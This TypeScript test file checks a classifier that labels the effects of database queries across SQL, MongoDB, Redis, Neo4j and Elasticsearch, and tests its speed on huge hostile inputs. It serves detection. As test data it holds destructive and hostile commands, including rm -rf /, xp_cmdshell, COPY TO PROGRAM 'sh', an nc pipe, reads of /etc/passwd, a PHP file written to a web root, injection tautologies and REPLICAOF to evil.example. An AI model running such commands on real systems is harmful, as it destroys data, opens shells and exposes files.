// Does every kind of query get the effects it has, and hostile text an answer in time?
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { loadSources } from '../../config/load-data.ts'
import { QUERY_CLASSES, looksLikeSql, readQuery } from './read-query.ts'
import { leastWork } from '../../../test/processor-time.ts'

const { languages } = await loadSources(join(import.meta.dirname, '../../..'))

/** engine, text, effects as `class target`, in order; `-` stands for no target. */
const ROWS: readonly (readonly [string, string, readonly string[]])[] = [
  // drops
  ['sql', 'DROP DATABASE shop', ['drop-database shop']],
  ['sql', 'drop   table\n users;', ['drop-table users']],
  ['sql', 'DROP TABLE IF EXISTS "Public"."Users" CASCADE', ['drop-table Public.Users']],
  ['sql', 'DROP TABLE a, b;', ['drop-table a', 'drop-table b']],
  ['sql', 'DROP SCHEMA public CASCADE', ['drop-schema public']],
  ['sql', 'DROP INDEX CONCURRENTLY users_email', ['drop-index users_email']],
  ['sql', 'DROP MATERIALIZED VIEW daily', ['drop-view daily']],
  ['sql', 'DROP USER bob', ['drop-role bob']],
  ['sql', 'DROP FUNCTION f(int)', ['drop-other f']],
  ['sql', 'DROP OWNED BY bob', ['drop-schema bob']],
  ['sql', 'DROP TABLE [dbo].[Order Lines]', ['drop-table dbo.Order Lines']],
  ['sql', 'DROP TABLE `my``t`', ['drop-table my``t']],
  ['sql', 'DROP TEMPORARY TABLE users', ['drop-temporary users']],
  ['sql', 'DROP TABLE IF EXISTS #tmp', ['drop-temporary #tmp']],
  ['sql', 'DROP TABLE #note\nusers', ['drop-table users']],
  ['sql', 'DELETE FROM temp_x', ['drop-temporary temp_x']],
  ['sql', 'CREATE TEMP TABLE users(id int); DROP TABLE users; DROP TABLE users', ['create users', 'drop-temporary users', 'drop-table users']],
  ['sql', 'ALTER TABLE users DROP COLUMN email', ['drop-column users.email']],
  ['sql', 'ALTER TABLE users DROP email, ADD x int', ['drop-column users.email']],
  ['sql', 'ALTER TABLE users DROP CONSTRAINT u', ['alter users']],
  ['sql', 'ALTER TABLE users ALTER COLUMN a DROP NOT NULL', ['alter users']],
  ['sql', 'ALTER TABLE logs DROP PARTITION p2020', ['drop-partition logs']],
  ['sql', 'ALTER TABLE users DROP INDEX by_mail', ['drop-index by_mail']],
  ['sql', 'ALTER TABLE users ADD COLUMN dropped int', ['alter users']],
  ['sql', 'ALTER TABLE hits DELETE WHERE 1', ['delete-all hits']],
  ['sql', 'CREATE OR REPLACE TABLE t AS SELECT 1', ['replace-table t']],
  ['sql', 'CREATE OR REPLACE DATABASE d', ['drop-database d']],
  ['sql', 'CREATE OR REPLACE VIEW v AS SELECT 1', ['create v']],
  // rows
  ['sql', 'TRUNCATE users', ['truncate users']],
  ['sql', 'TRUNCATE TABLE ONLY a, b RESTART IDENTITY', ['truncate a', 'truncate b']],
  ['sql', 'DELETE FROM users', ['delete-all users']],
  ['sql', 'DELETE FROM users WHERE 1=1', ['delete-all users']],
  ['sql', 'DELETE FROM users WHERE TRUE RETURNING id', ['delete-all users']],
  ['sql', "DELETE FROM users WHERE (('a' = 'a'))", ['delete-all users']],
  ['sql', 'DELETE FROM users WHERE id = 5 OR 1=1', ['delete-all users']],
  ['sql', 'DELETE FROM users WHERE id IS NOT NULL', ['delete-all users']],
  ['sql', 'DELETE FROM users WHERE 1=1 AND id = 5', ['delete-some users']],
  ['sql', 'DELETE FROM users WHERE id = 5', ['delete-some users']],
  ['sql', 'DELETE FROM users LIMIT 10', ['delete-some users']],
  ['sql', 'DELETE FROM a WHERE id IN (SELECT id FROM b)', ['delete-some a']],
  ['sql', 'DELETE FROM a USING (SELECT 1 WHERE true) b', ['delete-all a']],
  ['sql', 'DELETE u FROM users u JOIN bans b ON b.id = u.id', ['delete-some users']],
  ['sql', 'UPDATE users SET admin = true', ['update-all users']],
  ['sql', 'UPDATE users SET admin = true WHERE id = 3', ['update-some users']],
  ['sql', "UPDATE users SET note = 'where'", ['update-all users']],
  ['sql', 'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2', ['insert t']],
  ['sql', 'INSERT INTO t SELECT * FROM u', ['insert t']],
  ['sql', 'INSERT OVERWRITE TABLE t SELECT 1', ['update-all t']],
  ['sql', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)', ['delete-some t', 'insert t']],
  ['sql', 'WITH old AS (SELECT id FROM t) DELETE FROM t USING old WHERE t.id = old.id', ['delete-some t']],
  ['sql', 'WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', ['read -', 'delete-all t']],
  ['sql', 'WITH x AS (SELECT 1) SELECT * FROM x', ['read -']],
  // literals, comments, quoting
  ['sql', "SELECT 'DROP TABLE users'", ['read -']],
  ['sql', "INSERT INTO log VALUES ('x; DELETE FROM users; --')", ['insert log']],
  ['sql', "SELECT 'it''s; DROP TABLE x'", ['read -']],
  ['sql', '-- DROP TABLE users\nSELECT 1', ['read -']],
  ['sql', '# DROP TABLE users\nSELECT 1', ['read -']],
  ['sql', '/* DROP TABLE users; */ SELECT 1', ['read -']],
  ['sql', '/*!50000 DROP TABLE users */', ['drop-table users']],
  ['sql', 'DROP/**/TABLE/**/users', ['drop-table users']],
  ['sql', '/* /* */ DROP TABLE x; -- */', ['drop-table x']],
  ['sql', 'SELECT "drop table x; delete from y"', ['read -']],
  ['sql', "SELECT '\\'; DROP TABLE x; --'", ['read -', 'drop-table x']],
  ['mysql', "SELECT 'it\\'s; DROP TABLE x'", ['read -']],
  ['sql', "INSERT INTO t VALUES ('it\\'s; DROP TABLE x')", ['insert t']],
  ['sql', 'SELECT 5--1; DROP TABLE x', ['read -', 'drop-table x']],
  // dynamic
  ['sql', 'DO $$ BEGIN DELETE FROM users; END $$', ['delete-all users']],
  ['sql', 'DO $x$ BEGIN IF true THEN DROP TABLE a; END IF; END $x$', ['drop-table a']],
  ['sql', 'SELECT $$DROP TABLE users$$', ['read -']],
  ['sql', "EXECUTE IMMEDIATE 'DROP TABLE users'", ['drop-table users']],
  ['sql', "EXEC('DELETE FROM ' + @t)", ['delete-all -']],
  ['sql', "EXEC sp_executesql N'TRUNCATE TABLE users', N'@p int'", ['truncate users']],
  ['sql', "PREPARE s FROM 'DROP TABLE users'; EXECUTE s", ['drop-table users', 'other s']],
  ['sql', "SET @q = 'DROP TABLE users'; PREPARE s FROM @q", ['other @q', 'drop-table users']],
  ['sql', "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE x'; END $$", ['drop-table x']],
  ['sql', "DO $$ BEGIN EXECUTE format('DROP TABLE %I', r.name); END $$", ['drop-table -']],
  ['sql', "EXEC add_user 'DROP TABLE x'", ['other add_user']],
  ['sql', "SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec", ['read pg_tables', 'drop-table -']],
  ['sql', 'CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql', ['create f']],
  ['sql', 'CREATE TRIGGER t AFTER DELETE ON u BEGIN DELETE FROM v; DROP TABLE w; END; SELECT 1', ['create t', 'read -']],
  ['sql', 'DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM v; END//\nDROP TABLE w//', ['create p', 'drop-table w']],
  // batches
  ['sql', 'SELECT 1\nDROP TABLE x', ['read -', 'drop-table x']],
  ['sql', 'DELETE FROM a SELECT * FROM b WHERE c = 1', ['delete-all a', 'read b']],
  ['sql', 'IF EXISTS (SELECT 1) DROP TABLE x\nGO\nTRUNCATE TABLE y', ['drop-table x', 'truncate y']],
  ['sql', 'COPY t FROM stdin;\nDROP TABLE x;\n\\.\nSELECT 1;', ['insert t', 'read -']],
  ['sql', 'EXPLAIN DELETE FROM users', ['read -']],
  ['sql', 'EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users', ['delete-all users']],
  ['sql', 'EXPLAIN ANALYZE SELECT 1', ['read -']],
  // transactions
  ['sql', 'BEGIN; DELETE FROM users; ROLLBACK;', ['rolled-back users']],
  ['sql', 'BEGIN; DELETE FROM users; COMMIT; ROLLBACK;', ['delete-all users']],
  ['sql', 'BEGIN; DELETE FROM users; ROLLBACK TO a; COMMIT', ['delete-all users']],
  ['sql', 'BEGIN TRAN DELETE FROM users ROLLBACK', ['rolled-back users']],
  ['sql', 'BEGIN TRAN; DELETE FROM users; IF @@error <> 0 ROLLBACK', ['delete-all users']],
  ['sql', 'BEGIN; DROP TABLE users; ROLLBACK', ['drop-table users']],
  ['psql', 'BEGIN; DROP TABLE users; ROLLBACK', ['rolled-back users']],
  ['sql', 'DELETE FROM users; ROLLBACK', ['delete-all users']],
  // programs, files, server
  ['sql', '\\! rm -rf /', ['shell rm -rf /']],
  ['sql', '\\d users', ['read -']],
  ['sql', "\\copy users to program 'nc host 1'", ['shell nc host 1']],
  ['sql', "\\copy (select 1 from a) to 'out.csv' csv", ['write-file out.csv']],
  ['sql', '\\i setup.sql', ['run-file setup.sql']],
  ['sql', '\\o |sh', ['shell sh']],
  ['sql', '.shell ls', ['shell ls']],
  ['sql', '.read dump.sql', ['run-file dump.sql']],
  ['sql', '.tables', ['read -']],
  ['sql', 'system rm x', ['shell rm x']],
  ['sql', 'source filename.sql', ['run-file filename.sql']],
  ['sql', "COPY t TO PROGRAM 'sh'", ['shell sh']],
  ['sql', "COPY t TO '/tmp/x'", ['write-file /tmp/x']],
  ['sql', "COPY t FROM '/etc/passwd'", ['read-file /etc/passwd', 'insert t']],
  ['sql', 'COPY (SELECT 1) TO STDOUT', ['copy-out -']],
  ['sql', "EXEC master..xp_cmdshell 'whoami'", ['shell whoami']],
  ['sql', "SELECT sys_exec('id')", ['shell id']],
  ['sql', "SELECT LOAD_FILE('/etc/passwd')", ['read-file /etc/passwd']],
  ['sql', "SELECT 1 INTO OUTFILE '/var/www/x.php'", ['write-file /var/www/x.php']],
  ['sql', "LOAD DATA LOCAL INFILE 'a.csv' INTO TABLE t", ['read-file a.csv', 'insert t']],
  ['sql', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', ['kill -']],
  ['sql', 'KILL 42', ['kill -']],
  ['sql', 'SHUTDOWN', ['shutdown -']],
  ['sql', 'RESET MASTER', ['flush -']],
  ['sql', "ALTER SYSTEM SET fsync = 'off'", ['setting fsync']],
  ['sql', 'SET GLOBAL max_connections = 1', ['setting max_connections']],
  ['sql', 'SET search_path = a', ['other search_path']],
  ['sql', 'GRANT ALL ON t TO bob', ['grant -']],
  ['sql', "ALTER USER bob WITH PASSWORD 'x'", ['grant bob']],
  ['sql', 'CREATE USER bob SUPERUSER', ['grant bob']],
  ['sql', "CREATE USER bob WITH PASSWORD 'x'", ['create bob']],
  ['sql', 'SHOW TABLES', ['read -']],
  ['sql', 'PRAGMA table_info(users)', ['read table_info']],
  ['sql', 'SELECT deleted, "update" FROM truncates', ['read truncates']],
  ['sql', 'CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE)', ['create t']],
  ['sql', 'SELECT * FROM t FOR UPDATE', ['read t']],
  // other engines
  ['cql', 'DROP KEYSPACE shop', ['drop-database shop']],
  ['cql', 'BEGIN BATCH DELETE FROM a WHERE id = 1; APPLY BATCH', ['delete-some a']],
  ['influx', 'DROP MEASUREMENT cpu', ['drop-table cpu']],
  ['influx', 'DROP SERIES FROM cpu', ['delete-all cpu']],
  ['influx', 'DELETE WHERE time < now() - 30d', ['delete-some -']],
  ['mongo', 'db.dropDatabase()', ['drop-database -']],
  ['mongo', 'db.users.drop()', ['drop-table users']],
  ['mongo', "db.getCollection('users').drop()", ['drop-table users']],
  ['mongo', "db['users']['drop']()", ['drop-table users']],
  ['mongo', 'db.users.deleteMany({})', ['delete-all users']],
  ['mongo', 'db.users.deleteMany({ _id: { $exists: true } })', ['delete-all users']],
  ['mongo', 'db.users.deleteMany({ age: 3 })', ['delete-some users']],
  ['mongo', 'db.users.remove({}, true)', ['delete-some users']],
  ['mongo', 'db.users.updateMany({}, { $set: { a: 1 } })', ['update-all users']],
  ['mongo', 'db.users.find({ a: /drop()/ }).limit(3)', ['read users']],
  ['mongo', 'print("db.users.drop()") // db.users.drop()', ['other -']],
  ['mongo', "db.adminCommand({ shutdown: 1 }); db.runCommand({ drop: 'users' })", ['shutdown -', 'drop-table users']],
  ['mongo', "require('child_process').execSync('id')", ['shell id']],
  ['mongo', "db.a.aggregate([{ $out: 'b' }])", ['replace-table a']],
  ['redis', 'FLUSHALL', ['flush -']],
  ['redis', 'flushdb async', ['flush -']],
  ['redis', 'GET a\nDEL "b c"\nKEYS *', ['read a', 'delete-some b c', 'read *']],
  ['redis', 'CONFIG SET dir /root', ['setting dir']],
  ['redis', 'CONFIG GET dir', ['read dir']],
  ['redis', "EVAL return redis.call('flushall') 0", ['flush -']],
  ['redis', 'SET note FLUSHALL', ['insert note']],
  ['redis', 'CLUSTER RESET HARD', ['flush HARD']],
  ['redis', 'REPLICAOF evil.example 6379', ['flush evil.example']],
  ['redis', 'REPLICAOF NO ONE', ['setting -']],
  ['redis', 'MULTI\nDEL a\nDISCARD', ['rolled-back a']],
  ['neo4j', 'MATCH (n) DETACH DELETE n', ['delete-all -']],
  ['neo4j', 'MATCH (n:User) DETACH DELETE n', ['delete-all User']],
  ['neo4j', 'MATCH (n:User {id: 1}) DELETE n', ['delete-some User']],
  ['neo4j', "MATCH (n) WHERE n.x = 'DELETE' RETURN n // DELETE", ['read -']],
  ['neo4j', 'DROP DATABASE shop IF EXISTS', ['drop-database shop']],
  ['elastic', 'DELETE /orders', ['drop-table orders']],
  ['elastic', 'DELETE /_all', ['drop-database *']],
  ['elastic', 'POST /orders/_delete_by_query\n{"query": {"match_all": {}}}', ['delete-all orders']],
  ['elastic', 'GET /orders/_search', ['read orders']],
]

describe('readQuery', () => {
  it.each(ROWS)('%s: %s', (engine, text, expected) => {
    expect(readQuery(languages, engine, text).map((effect) => `${effect.class} ${effect.target ?? '-'}`)).toEqual(expected)
  })

  it('names only listed classes and offsets inside the text', () => {
    for (const [engine, text] of ROWS) {
      for (const effect of readQuery(languages, engine, text)) {
        expect(Object.keys(QUERY_CLASSES)).toContain(effect.class)
        expect(effect.start).toBeGreaterThanOrEqual(0)
        expect(effect.end).toBeLessThanOrEqual(text.length)
        expect(effect.start).toBeLessThanOrEqual(effect.end)
      }
    }
  })

  it('points at the statement', () => {
    const text = 'SELECT 1; DROP TABLE users;'
    const drop = readQuery(languages, 'sql', text)[1]
    expect(text.slice(drop?.start, drop?.end)).toBe('DROP TABLE users')
  })

  it('reads every beginning of every row without throwing', () => {
    for (const [engine, text] of ROWS)
      for (let cut = 0; cut < text.length; cut++) expect(Array.isArray(readQuery(languages, engine, text.slice(0, cut)))).toBe(true)
  })
})

describe('looksLikeSql', () => {
  it.each([
    'DROP TABLE users',
    'select 1',
    'SELECT * FROM t',
    'select a, b from t',
    'SELECT count(*) FROM t',
    'DELETE FROM users',
    'delete from users where id = 1',
    'UPDATE users SET a = 1',
    'INSERT INTO t (a) VALUES (1)',
    'TRUNCATE TABLE t',
    'truncate users;',
    'WITH x AS (SELECT 1) SELECT * FROM x',
    'CREATE INDEX i ON t (a)',
    'ALTER TABLE t ADD a int',
    'EXPLAIN ANALYZE DELETE FROM t',
    '-- note\nDROP DATABASE x',
    'BEGIN; DELETE FROM t; COMMIT',
    'GRANT ALL ON t TO bob',
    'PRAGMA table_info(t)',
    "COPY t FROM '/x'",
  ])('yes: %s', (text) => expect(looksLikeSql(text)).toBe(true))
  it.each([
    '',
    'delete from the list what is done',
    'select a file from the menu',
    'update the readme',
    'Update the README and set the date',
    'drop the table',
    'create a new branch',
    'insert coin',
    'with love',
    'show me',
    'begin',
    'truncate the log file',
    'fix: DROP TABLE users is gone',
    'grant access',
    '--help',
    'merge branch main',
    'copy a to b',
    'execute',
    'drop table',
  ])('no: %s', (text) => expect(looksLikeSql(text)).toBe(false))
})

describe('hostile input', () => {
  const MEGABYTE = 1_000_000
  const fill = (unit: string): string => unit.repeat(Math.ceil(MEGABYTE / unit.length))
  const units = [
    "'",
    '"',
    '`',
    '(',
    ')',
    '()',
    '/*',
    '/*!',
    '*/',
    '$a$ $b',
    '$$',
    '\\',
    '\\a ',
    "\\'",
    ';',
    '--',
    '[',
    '#',
    '.',
    '= ',
    '@a = @a ',
    'DELETE FROM ',
    '(DELETE FROM ',
    'DROP TABLE ',
    'ROLLBACK ',
    'BEGIN TRAN ROLLBACK ',
    'CREATE TRIGGER BEGIN; ',
    'OR ',
    'WHERE 1=1 OR ',
    "EXEC('a') ",
    "SET @a='x'; EXEC(@a); ",
    "SET @a = concat(@a, @a, 'x'); ",
    'SELECT 1 \\gexec ',
    "q'[",
    'COPY t FROM stdin; ',
    'db.a.drop(',
    'db.',
    '{',
    'eval("',
    'call(',
    'EVAL call( ',
    'MATCH (n:',
    '//',
    'DELETE /a\n',
    'CASE ',
    'a.',
    'a,',
    'ALTER TABLE a DROP b, ',
    'GO\n',
    '\n',
    ' ',
    '\0',
    'DELIMITER a\n',
    'xp_cmdshell ',
    'UPDATE a SET ',
  ]
  it.each(units)('%j a million characters long', (unit) => {
    const text = fill(unit)
    for (const engine of ['sql', 'mongo', 'redis', 'neo4j', 'elastic']) {
      expect(
        leastWork(() => readQuery(languages, engine, text), slowest(unit)),
        engine,
      ).toBeLessThan(slowest(unit))
    }
    expect(leastWork(() => looksLikeSql(text), 50)).toBeLessThan(50)
  })
  it('a prefix before the flood changes nothing', () => {
    for (const prefix of [
      'SELECT ',
      'DELETE FROM a WHERE ',
      "EXECUTE '",
      'DO $$ ',
      'WITH a AS (',
      'ALTER TABLE a DROP ',
      'DROP TABLE ',
      'CREATE FUNCTION f BEGIN ',
      'MERGE INTO a ',
    ]) {
      for (const unit of ['(', "''", 'a ', 'a=a OR ', 'a,', 'DELETE FROM b ', 'THEN ']) {
        const text = prefix + fill(unit)
        expect(
          leastWork(() => readQuery(languages, 'sql', text), slowest(unit)),
          prefix + unit,
        ).toBeLessThan(slowest(unit))
      }
    }
  }, 120_000)
  /** Floods of signs make no statements: 200 ms. Floods of statements make 100,000 effects: still far from quadratic. */
  function slowest(unit: string): number {
    return /[A-Za-z]/.test(unit) || unit.includes('\n') ? 1000 : 200
  }
})
